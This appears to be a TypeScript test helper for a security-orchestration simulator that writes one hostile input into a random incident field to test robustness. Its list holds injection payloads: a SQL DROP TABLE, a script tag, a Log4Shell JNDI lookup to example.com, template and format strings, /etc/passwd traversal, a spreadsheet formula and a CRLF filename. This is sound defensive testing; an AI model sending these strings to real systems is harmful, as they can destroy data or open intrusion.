import { Random } from '@soar-feed/soar-simulator';
import type { SimOrg } from '@soar-feed/soar-simulator';

/** The first integer that a double rounds away. */
const LARGE = 9_007_199_254_740_993n;

/** What has broken programs that show, parse or store texts. */
const HOSTILE: readonly string[] = [
  `'); DROP TABLE data_feeder_sync; --`,
  '<script>alert(1)</script> & <b>bold</b>',
  '${jndi:ldap://example.com/a} %s %n {{7*7}}',
  '../../../../etc/passwd',
  '\u202eright to left\u202c, \ud83d\udc7e, e\u0301',
  '=HYPERLINK("http://example.com")',
  '__proto__',
  'null',
  '  spaces around  ',
  `${'long '.repeat(400)}`,
];

/** One odd value in one incident. */
export function writeOddValues(source: SimOrg, seed: number): void {
  const random = new Random(seed);
  const ids = source.incidentIds();
  if (ids.length === 0) return;
  const incidentId = random.pick(ids);
  const text = random.pick(HOSTILE);
  switch (random.pick(['number', 'name', 'note', 'artifact', 'task', 'file'] as const)) {
    case 'number':
      source.updateIncident(incidentId, { properties: { cost: LARGE + BigInt(2 * random.integer(0, 9)) } });
      return;
    case 'name':
      source.updateIncident(incidentId, { name: `${text.trim()} ${seed}` });
      return;
    case 'note':
      source.addNote({ incidentId }, `${text} ${seed}`);
      return;
    case 'artifact':
      source.addArtifact(incidentId, { type: 'String', value: `${text} ${seed}`.trim() });
      return;
    case 'task':
      source.createTask(incidentId, { name: `${text} ${seed}`.trim().slice(0, 200) });
      return;
    case 'file':
      source.addAttachment(
        { incidentId },
        { name: `${seed}"\r\n;.txt`, contentType: 'text/plain', content: Buffer.from(text) },
      );
  }
}
